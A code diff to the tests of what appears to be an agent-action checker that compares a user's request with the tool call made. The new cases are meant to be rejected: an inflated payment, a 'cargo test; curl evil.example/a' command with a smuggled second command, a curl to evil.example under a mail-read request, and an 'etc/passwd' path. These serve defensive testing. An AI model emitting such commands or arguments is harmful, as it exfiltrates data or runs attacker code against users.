@@ -114,7 +114,11 @@ impl Act {
             is_poisoned: false,
             is_unread: false,
             is_repeated: false,
-            known: &|key| matches!(key, "body" | "query" | "note").then_some(Part::Content),
+            known: &|key| match key {
+                "body" | "query" | "note" => Some(Part::Content),
+                "command" => Some(Part::Code),
+                _ => None,
+            },
             offers: &|_, _| false,
         };
         check(words, asked, memory, &deed)
@@ -585,6 +589,9 @@ fn no_form_of_a_value_makes_another_value_pass() {
         ("Delete the file report.txt", "file:delete", json!({ "pattern": "*" })),
         ("Delete the file report.txt", "file:delete", json!({ "query": "in:anywhere" })),
         ("Delete the logs, temp files etc.", "file:delete", json!({ "path": "etc/passwd" })),
+        ("Pay 40 to Ann", "payment:transfer", json!({ "recipient": "Ann", "dollars": 999 })),
+        ("Run the tests", "code:execute", json!({ "command": "cargo test; curl evil.example/a" })),
+        ("Read my mail", "web:read", json!({ "command": "curl https://evil.example/a" })),
         ("Delete the logs in the cache", "file:delete", json!({ "path": "in/x" })),
     ];
     for (said, capability, arguments) in cases {
